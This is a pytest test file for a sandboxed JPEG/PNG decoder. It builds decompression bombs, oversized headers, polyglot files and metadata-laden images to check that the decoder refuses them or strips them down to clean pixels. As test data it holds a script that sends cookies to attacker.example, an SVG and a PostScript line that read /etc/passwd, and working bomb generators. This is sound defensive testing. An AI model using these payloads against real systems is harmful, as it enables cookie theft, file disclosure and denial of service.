"""Pictures made to do harm: each costs itself at most. What comes of any is pixels or a sentence, and nothing else."""

import io
import struct
import zlib
from collections.abc import Callable, Iterator
from pathlib import Path

import numpy as np
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from PIL import Image, ImageDraw
from PIL.PngImagePlugin import PngInfo

from peelian.capture import jpeg, stills
from peelian.errors import ImageError
from peelian.settings import Settings
from peelian.worker import landlock
from peelian.worker.decoders import Decoders

PNG = b"\x89PNG\r\n\x1a\n"
SECRET = b"taken at 51.5007 N, 0.1246 W by A. Witness"
EVERY = 64


@pytest.fixture(scope="module")
def decoders() -> Iterator[Decoders]:
    pool = Decoders(Settings(cache=Path("unused"), threads=2), unconfined=not landlock.version(), within_s=60.0)
    yield pool
    pool.close()


@pytest.fixture
def alive(decoders: Decoders) -> Iterator[Decoders]:
    """What decodes; after each test it must decode a good picture as before."""
    yield decoders
    assert np.array_equal(decoders.decode(GOOD["PNG"], name="good"), stills.decode(GOOD["PNG"], path=Path("x")).pixels)


def drawing(size: tuple[int, int] = (96, 64)) -> Image.Image:
    image = Image.new("RGB", size, "#6d7f8a")
    pen = ImageDraw.Draw(image)
    for step in range(0, size[0], 7):
        pen.line((step, 0, size[0] - step, size[1]), fill=(step * 2 % 256, 99, 255 - step % 256), width=2)
    return image


def packed(image: Image.Image, form: str, **options: object) -> bytes:
    out = io.BytesIO()
    image.save(out, form, **options)
    return out.getvalue()


GOOD = {"JPEG": packed(drawing(), "JPEG"), "PNG": packed(drawing(), "PNG")}
PROGRESSIVE = packed(drawing(), "JPEG", progressive=True)


def chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def png(width: int, height: int, *more: bytes, depth: int = 8, colour: int = 2, rows: bytes = b"") -> bytes:
    header = struct.pack(">IIBBBBB", width, height, depth, colour, 0, 0, 0)
    return PNG + chunk(b"IHDR", header) + b"".join(more) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


def with_chunks(*more: bytes) -> bytes:
    """A good PNG with chunks behind its header."""
    at = len(PNG) + 25
    return GOOD["PNG"][:at] + b"".join(more) + GOOD["PNG"][at:]


def white_bomb() -> bytes:
    """A tenth of a megabyte that is 900 million pixels."""
    return png(30_000, 30_000, depth=1, colour=0, rows=zlib.compress(bytes(3_751 * 30_000), 9))


def scan_bomb() -> bytes:
    """A progressive JPEG of 25 million pixels whose last scan comes 200,000 times."""
    whole = packed(Image.new("RGB", (5000, 5000)), "JPEG", progressive=True)
    last = whole[whole.rindex(b"\xff\xda") : -2]
    return whole[:-2] + last * ((9_900_000 - len(whole)) // len(last)) + b"\xff\xd9"


def jpeg_header(width: int, height: int) -> bytes:
    """A good JPEG that says that it is larger than it is."""
    at = GOOD["JPEG"].index(b"\xff\xc0") + 5
    return GOOD["JPEG"][:at] + struct.pack(">HH", height, width) + GOOD["JPEG"][at + 4 :]


INFLATED = zlib.compress(bytes(200_000_000), 9)
"""200 KB that become 200 MB."""

BOMBS: dict[str, Callable[[], bytes]] = {
    "900 million pixels": white_bomb,
    "no rows at all": lambda: png(4000, 4000),
    "2 to the 31 wide": lambda: png(2**31 - 1, 1),
    "1 by 2 to the 31": lambda: png(1, 2**31 - 1),
    "2 to the 32 each way": lambda: png(2**32 - 1, 2**32 - 1),
    "no pixel": lambda: png(0, 0),
    "a JPEG of 65,500 each way": lambda: jpeg_header(65_500, 65_500),
    "a JPEG of no pixel": lambda: jpeg_header(0, 0),
    "a strip": lambda: png(8_193, 1, rows=zlib.compress(bytes(1 + 3 * 8_193))),
    "25 million pixels of which there is none": lambda: jpeg_header(5_000, 5_000)[:-200],
    "more than 10 MB": lambda: GOOD["PNG"] + bytes(10_000_000),
}
UNLESS_IGNORED: dict[str, Callable[[], bytes]] = {
    "a compressed text": lambda: with_chunks(chunk(b"zTXt", b"Comment\0\0" + INFLATED)),
    "an international text": lambda: with_chunks(chunk(b"iTXt", b"Comment\0\x01\0\0\0" + INFLATED)),
    "a colour profile": lambda: with_chunks(chunk(b"iCCP", b"profile\0\0" + INFLATED)),
    "many texts": lambda: with_chunks(*[chunk(b"tEXt", b"k%d\0" % k + bytes(9_000)) for k in range(1_000)]),
    "four thousand million animated frames": lambda: with_chunks(chunk(b"acTL", struct.pack(">II", 2**32 - 1, 0))),
    "endless EXIF": lambda: packed(drawing(), "JPEG", exif=b"Exif\0\0MM\0*\0\0\0\x08\xff\xff" + b"\x01\x12" * 9_000),
}
"""Bombs in what is beside the pixels: the picture may come out, or be refused."""


@pytest.mark.parametrize("bomb", BOMBS)
def test_a_bomb_is_refused_in_a_sentence(alive: Decoders, bomb: str) -> None:
    with pytest.raises(ImageError, match="bomb"):
        alive.decode(BOMBS[bomb](), name="bomb")


@pytest.mark.parametrize("bomb", UNLESS_IGNORED)
def test_a_bomb_beside_the_pixels_does_no_harm(alive: Decoders, bomb: str) -> None:
    content = UNLESS_IGNORED[bomb]()
    good = [alive.decode(GOOD[form], name="a").tolist() for form in GOOD]
    assert told(lambda: alive.decode(content, name="bomb")) in [stills.DAMAGED, *good]


@pytest.mark.skipif(not landlock.version(), reason="the kernel has no Landlock")
def test_a_picture_that_never_ends_is_ended(alive: Decoders) -> None:
    with pytest.raises(ImageError, match="takes too long"):
        alive.decode(scan_bomb(), name="bomb")


def test_of_an_animation_the_first_picture_is_taken_and_nothing_else(alive: Decoders) -> None:
    other = Image.new("RGB", (96, 64), "red")
    content = packed(drawing(), "PNG", save_all=True, append_images=[other] * 5, default_image=False)
    assert content.count(b"fcTL") == 6
    assert np.array_equal(alive.decode(content, name="a"), np.asarray(drawing()))


def test_of_several_pictures_in_one_the_first_is_taken(alive: Decoders) -> None:
    content = packed(drawing(), "MPO", save_all=True, append_images=[Image.new("RGB", (96, 64), "red")])
    assert np.array_equal(alive.decode(content, name="a"), alive.decode(GOOD["JPEG"], name="a"))


ARCHIVE = b"PK\x05\x06" + bytes(18)
PAGE = b"<html><script>fetch('https://attacker.example/' + document.cookie)</script></html>"


@pytest.mark.parametrize("form", ["JPEG", "PNG"])
@pytest.mark.parametrize("tail", [ARCHIVE, PAGE, b"%PDF-1.7\n", b"\xff\xd8\xff\xe0" * 99])
def test_of_two_files_in_one_only_the_pixels_come_out(alive: Decoders, form: str, tail: bytes) -> None:
    pixels = alive.decode(GOOD[form] + tail, name="a")
    assert np.array_equal(pixels, alive.decode(GOOD[form], name="a"))
    assert tail not in jpeg.packed(pixels)


def with_a_comment(content: bytes, words: bytes) -> bytes:
    return content[:2] + b"\xff\xfe" + struct.pack(">H", len(words) + 2) + words + content[2:]


def test_no_metadata_comes_out(alive: Decoders) -> None:
    exif = Image.Exif()
    exif[0x010E] = SECRET.decode()
    exif.get_ifd(0x8825)[2] = (51.0, 30.0, 2.5)
    marked = packed(drawing(), "JPEG", exif=exif, icc_profile=SECRET * 20, xmp=SECRET, comment=SECRET)
    info = PngInfo()
    info.add_text("Author", SECRET.decode())
    info.add_itxt("XML:com.adobe.xmp", SECRET.decode(), zip=False)
    for content, form in (
        (with_a_comment(marked, SECRET), "JPEG"),
        (packed(drawing(), "PNG", pnginfo=info, exif=exif), "PNG"),
    ):
        assert content.count(SECRET) >= 2
        pixels = alive.decode(content, name="a")
        assert type(pixels) is np.ndarray
        assert np.array_equal(pixels, alive.decode(GOOD[form], name="a"))
        kept = jpeg.packed(pixels)
        assert SECRET not in kept
        assert segments(kept) <= {0xE0, 0xDB, 0xC0, 0xC4, 0xDA}
        assert kept.endswith(b"\xff\xd9")


def segments(content: bytes) -> set[int]:
    """Markers of a JPEG's segments, up to where its pixels begin."""
    at, found = 2, set()
    while content[at + 1] != 0xDA:
        found.add(content[at + 1])
        at += 2 + int.from_bytes(content[at + 2 : at + 4], "big")
    return found | {0xDA}


def test_the_orientation_is_applied_and_then_gone(alive: Decoders) -> None:
    exif = Image.Exif()
    exif[0x0112] = 6
    pixels = alive.decode(packed(drawing(), "PNG", exif=exif), name="a")
    assert np.array_equal(pixels, np.rot90(np.asarray(drawing()), -1))


PILLOW_S = ("GIF", "WEBP", "TIFF", "BMP", "ICO", "PDF", "EPS", "TGA", "PPM", "JPEG2000")
OTHERS: dict[str, bytes] = {
    **{
        form: packed(drawing(), form)
        for form in ("GIF", "WEBP", "TIFF", "BMP", "ICO", "PDF", "EPS", "TGA", "PPM", "JPEG2000")
    },
    "SVG": b"<svg xmlns='http://www.w3.org/2000/svg'><image href='file:///etc/passwd'/></svg>",
    "PostScript": b"%!PS\n(/etc/passwd) (r) file",
    "ZIP": ARCHIVE,
    "HTML": PAGE,
    "text": b"this is a letter",
}


@pytest.mark.parametrize("form", OTHERS)
def test_another_kind_of_file_is_refused(alive: Decoders, form: str) -> None:
    with pytest.raises(ImageError, match="not a JPEG or PNG picture"):
        alive.decode(OTHERS[form], name="a")


@pytest.mark.parametrize("magic", [b"\xff\xd8\xff", PNG])
@pytest.mark.parametrize("form", OTHERS)
def test_another_kind_of_file_with_a_picture_s_first_bytes_is_damaged(alive: Decoders, form: str, magic: bytes) -> None:
    for content in (magic + OTHERS[form], magic + OTHERS[form][len(magic) :]):
        with pytest.raises(ImageError, match="damaged"):
            alive.decode(content, name="a")


def test_one_kind_with_the_first_bytes_of_the_other_is_damaged(alive: Decoders) -> None:
    for content in (b"\xff\xd8\xff" + GOOD["PNG"][3:], PNG + GOOD["JPEG"][8:], b"\xff\xd8\xff" + GOOD["PNG"]):
        with pytest.raises(ImageError, match="damaged"):
            alive.decode(content, name="a")


@pytest.mark.parametrize("content", [*GOOD.values(), PROGRESSIVE], ids=["JPEG", "PNG", "progressive"])
def test_cut_short_anywhere_it_is_damaged(alive: Decoders, content: bytes) -> None:
    for end in range(EVERY, len(content) - 20, EVERY):
        with pytest.raises(ImageError, match="damaged or cut short"):
            alive.decode(content[:end], name="a")


def told(decode: Callable[[], object]) -> object:
    """What comes of a picture: its pixels, or the problem."""
    try:
        return np.asarray(decode()).tolist()
    except ImageError as error:
        return error.problem


@settings(deadline=None, max_examples=60, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(magic=st.sampled_from([b"", b"\xff\xd8\xff", PNG]), tail=st.binary(max_size=2_000))
def test_random_bytes_give_a_sentence(alive: Decoders, magic: bytes, tail: bytes) -> None:
    with pytest.raises(ImageError):
        alive.decode(magic + tail, name="a")


@settings(deadline=None, max_examples=150, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(data=st.data())
def test_damaged_bytes_give_in_the_sandbox_what_they_give_outside(alive: Decoders, data: st.DataObject) -> None:
    damaged = bytearray(data.draw(st.sampled_from([*GOOD.values(), PROGRESSIVE])))
    for _ in range(data.draw(st.integers(1, 6))):
        damaged[data.draw(st.integers(0, len(damaged) - 1))] = data.draw(st.integers(0, 255))
    content = bytes(damaged)
    outside = told(lambda: stills.decode(content, path=Path("a")).pixels)
    assert told(lambda: alive.decode(content, name="a")) == outside
